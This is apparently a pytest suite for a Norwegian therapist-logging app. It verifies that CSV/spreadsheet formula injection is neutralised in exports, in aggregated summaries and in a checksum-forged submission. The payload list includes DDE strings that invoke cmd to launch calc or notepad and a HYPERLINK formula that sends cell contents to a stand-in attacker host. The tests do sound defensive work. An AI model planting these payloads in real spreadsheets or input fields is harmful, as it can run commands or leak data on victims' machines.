"""Formula-safe everywhere: hostile text in every input that reaches a written workbook or CSV
comes out as neutral text, never as a formula, an error cell or a link (``sheet_scan.py`` says
what is looked for).

The inputs start with every character a spreadsheet takes as the start of a formula (``=``,
``+``, ``-``, ``@``, tab, CR), are Excel error codes, or are DDE payloads. They go in where a
user, a pilot lead or a forger can put text: the therapist's profile (unit, pilot), client
pseudonyms, notes (``--include-notes``), a catalogue's code labels and anchors, a pilot file's
roster (units, municipality, therapist codes) and name, tariff model names and descriptions,
file names, and — through a submission forged with the published checksum, or straight into a
collection — every text column of a submission (municipality name, unit, codes, labels, arena,
contact mode, pseudonyms, services, notes).
"""

from __future__ import annotations

import copy
import itertools
import json
import sqlite3
import tomllib
import zipfile
from datetime import date, time
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from openpyxl import load_workbook

from rehablogg.aggregate.collection import Collection, SubmissionInfo
from rehablogg.aggregate.status import Offer
from rehablogg.aggregate.tariffs import parse_tariffs
from rehablogg.aggregate.workbook import write_summary
from rehablogg.core.catalogue import (
    DEFAULT_CATALOGUE_FILE,
    DEFAULT_VERSION,
    default_catalogue,
    parse_catalogue,
)
from rehablogg.core.entry import EntryDraft
from rehablogg.core.periods import Month
from rehablogg.core.pilot import Pilot, RosterEntry, pilot_toml
from rehablogg.demo import DemoSpec, write_demo
from rehablogg.exchange.columns import ENTRY_BASE_COLUMNS, PARTICIPANT_COLUMNS, party_column
from rehablogg.exchange.export import ExportRequest, export
from rehablogg.exchange.neutralise import cell_text, is_neutral
from rehablogg.exchange.verify import verify_file
from rehablogg.resources_dir import resource_path
from rehablogg.storage.clients import add_client
from rehablogg.storage.database import open_database_file
from rehablogg.storage.entries import add_entry
from rehablogg.storage.profile import update_profile
from tests.cli_runner import run_cli
from tests.exchange.edits import rehash
from tests.robustness import toml_writer
from tests.robustness.sheet_scan import csv_problems, problems, text_values

PAYLOADS = (
    '=HYPERLINK("http://angriper.invalid/?"&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "\x00=1+1",
    "=",
)
# XML cannot hold NUL: a forged file cannot carry that one.
FORGEABLE = tuple(p for p in PAYLOADS if "\x00" not in p)
PILOT_ID = "pilot-vest"
MARCH = Month(2025, 3)


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def assert_safe(path: Path) -> None:
    found = problems(path)
    assert not found, f"{path.name}: " + "; ".join(found[:10])


def assert_payloads_present(path: Path, minimum: int = 1) -> None:
    """The test has teeth only if the hostile text reached the workbook (neutralised)."""
    texts = text_values(path)
    hits = [t for t in texts if any(cell_text(p)[1:] in t for p in PAYLOADS if p.strip())]
    assert len(hits) >= minimum, f"{path.name}: only {len(hits)} hostile texts written"


# -- a summary straight from a hostile collection (no verify in the way) ---------------------


def _hostile_catalogue_parties() -> tuple[str, ...]:
    return default_catalogue().party_keys


def _hostile_collection(path: Path) -> Collection:
    collection = Collection(path)
    parties = _hostile_catalogue_parties()
    entry_columns = (*ENTRY_BASE_COLUMNS, *(party_column(k) for k in parties), "notat")
    counter = itertools.count()
    with collection.run():
        for t, (therapist, municipality) in enumerate((("FYS01", "4601"), (payload(0), "=46"))):
            for month in ("2025-02", "2025-03"):
                export_id = f"{payload(t)}-{month}"
                info = SubmissionInfo(
                    export_id=export_id,
                    therapist=therapist,
                    municipality=municipality,
                    municipality_name=payload(t + 1),
                    unit=payload(t + 2),
                    profession="fysioterapeut",
                    position=80,
                    pilot=payload(3),
                    month=month,
                    replaces="",
                    entry_columns=entry_columns,
                    participant_columns=PARTICIPANT_COLUMNS,
                )
                entries, participants = [], []
                for day in range(1, 21):
                    i = next(counter)
                    code = ("D02", "I12", "I06", payload(i))[i % 4]
                    category = ("direkte", "indirekte", "indirekte", "direkte")[i % 4]
                    values: dict[str, Any] = {
                        "registrering_id": f"{payload(i)}#{i}",
                        "dato": f"{month}-{day:02d}",
                        "uke": 10,
                        "starttid": payload(i + 1),
                        "kode": code,
                        "kodenavn": payload(i + 2),
                        "kategori": category,
                        "minutter": 30 + i,
                        "timer": (30 + i) / 60,
                        "reiseminutter": 5,
                        "antall_brukere": 1,
                        "gruppestorrelse": None,
                        "arena": payload(i + 3),
                        "kontaktform": payload(i + 4),
                        "notat": payload(i + 5),
                        party_column(parties[0]): 1,
                    }
                    entries.append([values.get(c, 0) for c in entry_columns])
                    client = payload(i % 3) if i % 2 else f"K-{i % 5}"
                    participant = {
                        "registrering_id": values["registrering_id"],
                        "bruker": client,
                        "fodselsar": 2019,
                        "aldersgruppe": payload(i + 6),
                        "tjeneste": ("habilitering", payload(i))[i % 2],
                        "har_ip": 0,
                        "har_koordinator": 0,
                        "har_barnekoordinator": 0,
                        "terapeut_er_koordinator": i % 2,
                        # Format 1.1's columns: hostile text where a summary may show it.
                        "bostedskommune": payload(i + 7),
                        "tjenesteform": ("egen", payload(i + 8))[i % 2],
                    }
                    participants.append([participant[c] for c in PARTICIPANT_COLUMNS])
                collection.add_offer(
                    Offer(f"{payload(t)}.xlsx", export_id, therapist, month),
                    sha256=f"sha-{export_id}",
                    size=1,
                    municipality=municipality,
                )
                collection.add_submission(info, entries, participants)
        for i, text in enumerate(PAYLOADS):
            collection.add_offer(
                Offer(f"{text}.xlsx", reason=text), sha256=f"bad-{i}", size=1, municipality=text
            )
    return collection


def _hostile_pilot() -> Pilot:
    return Pilot(
        id=PILOT_ID,
        name=payload(0),
        catalogue_id="rehablogg-standard",
        catalogue_version=1,
        roster=tuple(
            RosterEntry(
                therapist, payload(i), payload(i + 1), "fysioterapeut", Month(2025, 1), MARCH
            )
            for i, therapist in enumerate(("FYS01", payload(0), payload(5)))
        ),
    )


def _hostile_tariffs(source: str) -> Any:
    text = resource_path("tariffs", "eksempel-modeller.toml").read_text(encoding="utf-8")
    data = tomllib.loads(text)
    for i, model in enumerate(data["models"]):
        model["name"] = payload(i)
        model["description"] = payload(i + 1)
    return parse_tariffs(toml_writer.dumps(data), source)


@pytest.mark.parametrize("csv_threshold", [1_000_000, 10])
def test_summary_of_a_hostile_collection_runs_nothing(tmp_path: Path, csv_threshold: int) -> None:
    collection = _hostile_collection(tmp_path / "samling.sqlite3")
    out = tmp_path / "sammendrag.xlsx"
    try:
        result = write_summary(
            collection,
            out,
            _hostile_pilot(),
            sheet_rows=25,
            csv_threshold=csv_threshold,
            tariffs=_hostile_tariffs(f"{PAYLOADS[1]}.toml"),
        )
    finally:
        collection.close()
    assert result.accepted and result.missing
    assert_safe(out)
    assert_payloads_present(out, minimum=40)
    wb = load_workbook(out, read_only=True)
    names = wb.sheetnames
    wb.close()
    # the streamed row sheets are split at 25 rows, so both the openpyxl template rows and the
    # streamed XML rows hold hostile text
    assert ("Registreringer 2" in names) == (csv_threshold > 100)
    for csv_file in result.csv_files:
        assert not csv_problems(csv_file), csv_problems(csv_file)[:5]
    assert len(result.csv_files) == (2 if csv_threshold == 10 else 0)


# -- exports of a hostile therapist database, and a hostile catalogue -------------------------


def _hostile_catalogue_text() -> str:
    data = tomllib.loads(
        resource_path("catalogue", DEFAULT_CATALOGUE_FILE).read_text(encoding="utf-8")
    )
    data = copy.deepcopy(data)
    data["id"] = "fiendtlig"
    for i, code in enumerate(data["codes"]):
        code["label"] = {lang: payload(i + n) for n, lang in enumerate(("nb", "nn", "en"))}
        code["anchors"] = [payload(i + 3)]
    return toml_writer.dumps(data)


def _hostile_db(folder: Path, therapist: str, seed: int, pseudonyms: bool = False) -> Path:
    """A therapist database with hostile unit and notes (and pseudonyms: the app makes them
    itself, so a file with hostile ones does not verify, but the writer must be safe)."""
    folder.mkdir(parents=True)
    db = open_database_file(folder / "rehablogg.sqlite3")
    try:
        write_demo(
            db,
            DemoSpec(
                entries=120,
                clients=4,
                seed=seed,
                end=date(2025, 3, 31),
                therapist=therapist,
                municipality="4601",
                unit=payload(seed),
            ),
        )
        update_profile(db.engine, pilot_id=PILOT_ID, unit=payload(seed))
        for i in range(6):
            client = add_client(
                db.engine,
                f"Klient {i}",
                birth_year=2019,
                service="habilitering",
                pseudonym=payload(i) if pseudonyms and i < 5 else None,
            )
            add_entry(
                db.engine,
                EntryDraft(
                    date=date(2025, 3, 3 + i),
                    start_time=time(9, 0),
                    minutes=45,
                    code="D02",
                    client_ids=(client,),
                    contact_mode="oppmote",
                    arena="skole",
                    note=payload(i + seed),
                ),
                "rehablogg-standard",
                1,
            )
    finally:
        db.close()
    return folder


def test_an_export_with_a_hostile_catalogue_runs_nothing_and_verifies(tmp_path: Path) -> None:
    catalogue = parse_catalogue(_hostile_catalogue_text(), "fiendtlig.toml")
    folder = _hostile_db(tmp_path / "db", "FYS01", 1)
    db = open_database_file(folder / "rehablogg.sqlite3")
    try:
        result = export(
            db.engine,
            ExportRequest(
                date(2025, 3, 1),
                date(2025, 3, 31),
                tmp_path,
                whole_month=True,
                submit=True,
                include_notes=True,
            ),
            catalogue=catalogue,
        )
    finally:
        db.close()
    assert_safe(result.path)
    assert_payloads_present(result.path, minimum=len(PAYLOADS))
    # the checksum is over the values as written, neutralised: the file still verifies
    assert verify_file(result.path).ok


# -- end to end: hostile databases, a forged submission, a hostile pilot and tariff file ------


def _forge(genuine: Path, target: Path) -> Path:
    """A submission with raw formula text in every free text column, carrying the published
    checksum and export id, as anyone with the format document can make one."""
    wb = load_workbook(genuine)

    def raw(cell: Any, text: str) -> None:
        cell.value = text
        cell.data_type = "s"  # a string cell: openpyxl would otherwise make it a formula

    for field, text in (("kommunenavn", PAYLOADS[0]), ("enhet", PAYLOADS[1])):
        for row in wb["Metadata"].iter_rows(min_row=2):
            if row[0].value == field:
                raw(row[1], text)
    ws = wb["Registreringer"]
    header = [c.value for c in ws[1]]
    for r, row in enumerate(ws.iter_rows(min_row=2)):
        for name in ("arena", "kontaktform", "notat"):
            if name in header:
                raw(row[header.index(name)], FORGEABLE[(r + len(name)) % len(FORGEABLE)])
    wb.save(target)
    return rehash(target)  # forged with the published checksum, as the issue describes


def test_an_export_with_hostile_pseudonyms_runs_nothing(tmp_path: Path) -> None:
    folder = _hostile_db(tmp_path / "db", "FYS01", 2, pseudonyms=True)
    for fmt in ("xlsx", "csv"):
        done = run_cli(
            "export",
            "--period",
            "2025-03",
            "--format",
            fmt,
            "--include-notes",
            "--out",
            str(tmp_path),
            data_dir=folder,
        )
        assert done.returncode == 0, done.stderr
    (xlsx,) = tmp_path.glob("*.xlsx")
    assert_safe(xlsx)
    assert_payloads_present(xlsx, minimum=10)
    (view,) = tmp_path.glob("*.csv")
    assert not csv_problems(view), csv_problems(view)[:5]


def test_aggregate_of_hostile_files_writes_no_formula(tmp_path: Path) -> None:
    inbox = tmp_path / "innboks"
    inbox.mkdir()
    exports: list[Path] = []
    for therapist, seed in (("FYS01", 1), ("ERG02", 2)):
        data_dir = _hostile_db(tmp_path / therapist, therapist, seed)
        for fmt in ("xlsx", "csv"):
            done = run_cli(
                "export",
                "--period",
                "2025-03",
                "--format",
                fmt,
                *(("--submit",) if fmt == "xlsx" else ()),
                "--include-notes",
                "--out",
                str(inbox),
                data_dir=data_dir,
            )
            assert done.returncode == 0, done.stderr
        exports += sorted(inbox.glob(f"*{therapist}*.xlsx"))
    checked = run_cli("verify", *map(str, exports))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    forged = _forge(exports[0], inbox / (PAYLOADS[1].replace("/", "") + ".xlsx"))
    assert verify_file(forged).ok, verify_file(forged).sentence()
    exports[0].unlink()  # the forged file is FYS01's March now
    pilot = Pilot(
        id=PILOT_ID,
        name=payload(0),
        catalogue_id="rehablogg-standard",
        catalogue_version=DEFAULT_VERSION,  # the catalogue the app exports with
        roster=(
            RosterEntry("FYS01", "4601", payload(2), "fysioterapeut", Month(2025, 1), MARCH),
            RosterEntry("ERG02", "4601", payload(3), "ergoterapeut", Month(2025, 1), MARCH),
            RosterEntry("ERG03", "4601", PAYLOADS[0], "ergoterapeut", Month(2025, 1), MARCH),
        ),
    )
    (inbox / "pilot.toml").write_text(pilot_toml(pilot), encoding="utf-8")
    tariffs = tmp_path / f"{PAYLOADS[5]}.toml"
    data = tomllib.loads(
        resource_path("tariffs", "eksempel-modeller.toml").read_text(encoding="utf-8")
    )
    for i, model in enumerate(data["models"]):
        model["name"], model["description"] = payload(i), payload(i + 4)
    tariffs.write_text(toml_writer.dumps(data), encoding="utf-8")
    out = tmp_path / "sammendrag.xlsx"
    done = run_cli(
        "aggregate",
        str(inbox),
        "--out",
        str(out),
        "--tariffs",
        str(tariffs),
        "--collection",
        str(tmp_path / "samling.sqlite3"),
    )
    assert done.returncode == 0, done.stderr
    collection = sqlite3.connect(tmp_path / "samling.sqlite3")
    statuses = collection.execute("SELECT path, reason FROM offer").fetchall()
    collection.close()
    reasons = {Path(p).name: r for p, r in statuses}
    assert reasons[forged.name] == "", reasons  # the forged file got in
    for path in [out, *exports[1:]]:  # not the forged file: rehablogg did not write it
        assert_safe(path)
    assert_payloads_present(out, minimum=20)
    for csv_file in inbox.glob("*.csv"):
        assert not csv_problems(csv_file), csv_problems(csv_file)[:5]
    # Mangler holds the hostile roster unit of the therapist who sent nothing
    wb = load_workbook(out, read_only=True)
    missing = [r for r in wb["Mangler"].iter_rows(values_only=True)]
    wb.close()
    assert any(r[0] == "ERG03" and r[2] == cell_text(PAYLOADS[0]) for r in missing), missing


def test_neutralising_twice_changes_nothing() -> None:
    """The writers' guard neutralises what rows.py already neutralised and hashed: it must be
    the identity on its own output, or the checksum would be over other values than those
    written."""
    texts = [
        *PAYLOADS,
        "",
        "'=x",
        "''",
        "a\r\nb",
        "\r\n=1",
        "x" * 40000,
        "#REF!",
        "'#REF!",
        "\ud800=1",
        "K-7Q2M9X",
        json.dumps(PAYLOADS),
    ]
    for text in texts:
        once = cell_text(text)
        assert cell_text(once) == once, text
        assert is_neutral(once), text


@pytest.mark.parametrize(
    ("name", "value", "reported"),
    [
        ("_xlnm.Print_Titles", "'Ark'!$1:$1", False),
        ("_xlnm.Print_Area", "'Ark'!$A$1:$C$9", False),
        ("_xlnm.Print_Area", "'Ark'!$A$1:$C$9,HYPERLINK(\"x\")", True),
        ("_xlnm.Print_Titles", "'Annet ark'!$1:$1", True),  # not a sheet of this workbook
        ("_xlnm.Print_Area", 'CALL("x")', True),
        ("Hei", "'Ark'!$A$1", True),
    ],
)
def test_only_a_plain_print_setting_passes_the_scan(
    tmp_path: Path, name: str, value: str, reported: bool
) -> None:
    """The summary's print set-up is two defined names per sheet; the scan lets those through
    only when they are plain references to the workbook's own sheet."""
    path = tmp_path / "ark.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(
            "xl/workbook.xml",
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<sheets><sheet name="Ark" sheetId="1"/></sheets><definedNames>'
            f'<definedName name="{name}" localSheetId="0">{escape(value)}</definedName>'
            "</definedNames></workbook>",
        )
    assert bool(problems(path)) is reported
